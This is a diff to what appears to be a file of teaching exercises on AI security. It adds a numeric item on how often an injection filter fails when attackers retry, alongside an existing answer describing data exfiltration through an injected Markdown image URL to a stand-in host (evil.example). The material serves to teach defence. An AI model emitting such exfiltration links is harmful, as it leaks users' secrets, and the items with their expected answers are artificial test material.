@@ -27,4 +27,28 @@ export default defineExercises([
     prompt: "How can an injected instruction exfiltrate data from a chat app without any tool, and what blocks it?",
     answer: "It makes the model emit a Markdown image or link whose URL carries the secret (e.g. `![](https://evil.example/?q=<data>)`); the client loads it automatically. Block auto-loading of external images/links (or allow-list domains) and treat model output as untrusted.",
   },
+  {
+    id: "filter-retries",
+    kind: "numeric",
+    tolerance: { abs: 1e-3 },
+    generate(rng) {
+      const blocked = [0.9, 0.95, 0.99][rng.int(3)];
+      const tries = [10, 20, 50][rng.int(3)];
+      const expected = 1 - blocked ** tries;
+      return {
+        prompt:
+          `An injection filter blocks ${Math.round(blocked * 100)}% of attack phrasings, independently per attempt. An attacker who can retry cheaply ` +
+          `(a public form, a web page the agent reads) tries ${tries} variants. What is the probability that at least one gets through?`,
+        expected,
+        mistakes: [
+          { name: "give the single-attempt bypass rate", value: 1 - blocked },
+          { name: "multiply the single-attempt rate by the tries (capped at 1)", value: Math.min(1, tries * (1 - blocked)) },
+        ].filter((m) => Math.abs(m.value - expected) > 1e-3),
+        explanation:
+          `All ${tries} must be blocked for the defence to hold: $${blocked}^{${tries}} = ${(blocked ** tries).toFixed(3)}$, so one passes with ` +
+          `probability ${expected.toFixed(3)}. A filter that is right most of the time still loses to retries, which is why the design must ` +
+          `limit what a successful injection can do (least privilege, confirmation) rather than rely on catching it.`,
+      };
+    },
+  },
 ]);
